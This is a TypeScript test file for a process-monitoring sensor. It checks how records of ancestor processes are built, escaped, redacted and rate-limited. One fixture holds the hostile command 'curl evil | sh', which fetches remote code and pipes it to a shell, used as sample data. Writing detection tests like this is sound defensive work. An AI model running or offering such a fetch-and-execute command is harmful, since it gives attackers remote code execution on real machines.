import { expect, test } from "bun:test";
import { treeOf } from "../../src/fingerprint/tree.ts";
import { parseRecord } from "../../src/report/event-record.ts";
import { createRedaction } from "../../src/report/redact.ts";
import { unknownFacts } from "../../src/sensor/event.ts";
import { AncestorRecords } from "../../src/warden/ancestor-records.ts";
import { RecentExecs } from "../../src/warden/recent-execs.ts";
import { smallHost, type World } from "../forest/world.ts";

const BOOT_MS = Date.UTC(2026, 0, 31);

/** The ancestors' records, and how often /proc was read for them. */
function recorder(
  world: World,
  args: readonly string[],
  time = { now: 0 },
  recent: RecentExecs = new RecentExecs(4_096),
) {
  const asked: number[] = [];
  const records = new AncestorRecords({
    forest: world.forest,
    bootTimeMs: BOOT_MS,
    userName: (uid) => (uid === 0 ? "root" : undefined),
    now: () => time.now,
    recent,
    reader: {
      invocation: (pid) => {
        asked.push(pid);
        return {
          ...unknownFacts,
          startTicks: world.forest.get(pid)?.startTicks,
          args,
          tty: null,
          loginUid: 1000,
        };
      },
    },
  });
  const of = (pid: number) => {
    const process = world.forest.get(pid);
    return process === undefined ? {} : records.of(process);
  };
  return { of, asked };
}

function parsed(texts: unknown): unknown[] {
  return Array.isArray(texts) ? texts.map((text) => parseRecord(String(text))) : [];
}

function loggedIn(): World {
  const world = smallHost();
  world.spawn(100, 200, "/bin/bash");
  world.spawn(200, 300, "curl");
  return world;
}

test("a verdict names each ancestor, its start, its user, its arguments, its terminal and its login", () => {
  const fields = recorder(loggedIn(), ["-bash", "--login"]).of(300);
  expect(fields["process.ancestor_pids"]).toEqual([1, 100, 200]);
  expect(parsed(fields["process.ancestors"]).at(-1)).toEqual({
    "process.pid": 200,
    "process.creation.time": "2026-01-31T00:00:01.200000Z",
    "process.user.id": 0,
    "process.user.name": "root",
    "process.runnable.path": "/bin/bash",
    "process.command_args": ["-bash", "--login"],
    "process.tty": null,
    "process.login_user.id": 1000,
  });
});

test("of an ancestor that has ended only what the forest knows is there", () => {
  const world = loggedIn();
  world.exit(200);
  const fields = recorder(world, ["-bash"]).of(300);
  expect(fields["process.ancestor_pids"]).toEqual([1, 100, 200]);
  expect(parsed(fields["process.ancestors"]).at(-1)).toEqual({
    "process.pid": 200,
    "process.user.id": 0,
    "process.user.name": "root",
    "process.runnable.path": "/bin/bash",
  });
});

test("the arguments of another program than the one that started the process are not shown", () => {
  const world = loggedIn();
  world.exec(200, "python");
  expect(parsed(recorder(world, ["python", "x.py"]).of(300)["process.ancestors"]).at(-1)).not.toHaveProperty(
    "process.command_args",
  );
});

test("the arguments of an ancestor that ended at once are those of its exec", () => {
  const world = loggedIn();
  const recent = new RecentExecs(4_096);
  const process = world.forest.get(200);
  if (process === undefined) throw new Error("no process");
  const facts = { ...unknownFacts, args: ["bash", "-c", "curl evil | sh"], tty: null };
  const exec = {
    process,
    facts,
    tree: treeOf(process.lineage),
    source: "ebpf",
    time: 0,
    event: undefined,
  } as const;
  for (let i = 0; i < 600; i += 1) recent.add({ ...exec, facts: unknownFacts });
  recent.add(exec);
  world.exit(200);
  expect(parsed(recorder(world, [], { now: 0 }, recent).of(300)["process.ancestors"]).at(-1)).toMatchObject({
    "process.pid": 200,
    "process.command_args": ["bash", "-c", "curl evil | sh"],
    "process.tty": null,
  });
});

test("hostile arguments are escaped and cut", () => {
  const fields = recorder(loggedIn(), ["-bash", "\u001b[2J", "x".repeat(10_000)]).of(300);
  const text = JSON.stringify(fields["process.ancestors"]);
  expect(text).toContain("x1b[2J");
  expect(text).not.toMatch(/[^ -~]/);
  expect(text.length).toBeLessThan(2_500);
});

test("secrets of ancestors are redacted like those of the process", () => {
  const fields = recorder(loggedIn(), ["mysql", "-phunter2"]).of(300);
  expect(JSON.stringify(createRedaction("full", [])(fields))).toContain("hunter2");
  const redacted = createRedaction("redacted", [])(fields);
  expect(JSON.stringify(redacted)).not.toContain("hunter2");
  expect(parsed(redacted["process.ancestors"])).toHaveLength(3);
  expect(JSON.stringify(createRedaction("off", [])(fields))).not.toContain("mysql");
});

test("a flood of verdicts reads 200 processes a second, and describes the others from memory", () => {
  const time = { now: 0 };
  const { of, asked } = recorder(loggedIn(), ["-bash"], time);
  for (let i = 0; i < 1_000; i += 1) expect(of(300)["process.ancestor_pids"]).toEqual([1, 100, 200]);
  expect(asked).toHaveLength(200);
  time.now = 1e9;
  of(300);
  expect(asked).toHaveLength(203);
});

test("one user's flood leaves half of them for other users' processes, and all for root's", () => {
  const time = { now: 0 };
  const world = loggedIn();
  for (const [pid, uid] of [
    [400, 1000],
    [500, 1001],
  ] as const) {
    world.spawn(100, pid, "/bin/bash");
    world.user(pid, uid);
    world.spawn(pid, pid + 1, "curl", { uid });
  }
  const { of, asked } = recorder(world, ["-bash"], time);
  for (let i = 0; i < 300; i += 1) of(401);
  expect(asked).toHaveLength(100);
  of(501);
  expect(asked).toHaveLength(103);
  for (let i = 0; i < 300; i += 1) of(300);
  expect(asked).toHaveLength(200);
});
